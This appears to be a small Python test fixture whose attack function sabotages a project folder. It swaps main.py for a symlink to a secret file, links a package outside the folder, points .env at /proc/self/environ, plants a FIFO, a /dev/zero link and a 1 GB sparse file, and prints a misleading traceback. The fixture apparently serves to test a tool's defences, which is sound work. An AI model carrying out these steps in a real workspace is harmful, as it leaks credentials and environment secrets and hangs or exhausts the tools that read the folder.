"""Puts in place of its sources what would lead a reader out of the folder, or hold it for ever; then ends badly."""

import os


def attack(world):
    os.unlink("main.py")
    os.symlink(world["secret_file"], "main.py")
    os.symlink(world["outside"], "package")
    os.mkfifo("routes.py")
    os.symlink("/proc/self/environ", ".env")
    os.symlink("/dev/zero", "zero.py")
    with open("huge.py", "wb") as file:
        file.truncate(1 << 30)
    print(f'  File "{os.getcwd()}/package/secret.py", line 1, in <module>')
    print("ModuleNotFoundError: No module named 'package.secrets'", flush=True)
    if world.get("end"):
        os._exit(1)
    return "planted"
